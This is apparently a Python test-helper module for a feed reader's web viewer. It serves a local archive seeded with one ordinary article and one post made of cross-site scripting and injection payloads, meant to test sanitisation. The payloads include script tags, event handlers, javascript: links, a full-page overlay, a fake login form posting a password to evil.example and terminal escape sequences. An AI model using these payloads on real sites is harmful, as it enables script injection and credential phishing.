"""Helpers for the web tests: an archive built from a feed written in code, served on a
real server thread at 127.0.0.1 on a free port."""

from __future__ import annotations

import http.client
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from subsample.paths import resolve_paths
from subsample.show.web.server import Server, make_server
from subsample.times import now_utc
from tests.conftest import item, rss

HOSTILE = (
    '<h1 style="font-size:400px;position:fixed;top:0;left:0">Subsample: Fake Header</h1>'
    "<script>window.__pwned = 1; document.title = 'pwned';</script>"
    '<img src="https://example.org/x.png" onerror="window.__pwned = 2" onload="window.__pwned = 3">'
    '<a href="javascript:window.__pwned=4">click me</a>'
    '<a href="JaVaScRiPt&#58;alert(1)">encoded</a>'
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red"'
    ' class="overlay">OVERLAY</div>'
    '<iframe src="https://example.org/"></iframe>'
    '<form action="https://evil.example/"><input name="pw"><button>Log in</button></form>'
    "<style>body { display: none }</style>"
    '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">'
    "<svg><script>window.__pwned = 5</script></svg>"
    "<p>Terminal \x1b[31mred\x1b[0m and \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 escapes</p>"
    '<a href="http://]]">not a URL</a><img src="http://[::1/x.png">'
    "<p>The honest paragraph.</p>"
)
ARTICLE = (
    "<h2>The cooling problem</h2><p>Heat transfer works in three ways:</p>"
    "<ol><li>Conduction</li><li>Convection</li><li>Radiation</li></ol>"
    "<h3>Why it is hard</h3><ul><li>Vacuum</li><li>Radiators</li></ul>"
)


def add_feed(run: Callable[..., Any], tmp_path: Path, sid: str, items: list[dict[str, Any]]) -> None:
    feed = tmp_path / f"{sid}.xml"
    feed.write_text(rss(items, title=f"The {sid} blog"))
    r = run("add", sid, "rss", str(feed), "--limit", "0")
    assert r.exit_code == 0, r.output
    r = run("fetch", sid)
    assert r.exit_code == 0, r.output


def seed_like(count: int = 31) -> list[dict[str, Any]]:
    """COUNT posts; the newest is an article with headings and lists, one is hostile."""
    items = [item(i) for i in range(1, count + 1)]
    items[-1] = item(count, title="AI datacenters in space do not have a cooling problem", html=ARTICLE)
    items[-2] = item(count - 1, title="<b onmouseover=alert(1)>Hostile</b> \x1b[2J title", html=HOSTILE)
    return items


@dataclass
class Served:
    server: Server
    url: str
    home: Path

    def get(self, path: str, method: str = "GET", headers: dict[str, str] | None = None) -> Response:
        conn = http.client.HTTPConnection("127.0.0.1", self.server.port, timeout=30)
        try:
            conn.request(method, path, headers=headers or {})
            resp = conn.getresponse()
            return Response(resp.status, {k.lower(): v for k, v in resp.getheaders()}, resp.read())
        finally:
            conn.close()


@dataclass
class Response:
    status: int
    headers: dict[str, str]
    body: bytes

    @property
    def text(self) -> str:
        return self.body.decode()


@contextmanager
def served(home: Path) -> Iterator[Served]:
    server = make_server(resolve_paths(home), "127.0.0.1", 0, now_utc, quiet=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield Served(server, server.url, home)
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)
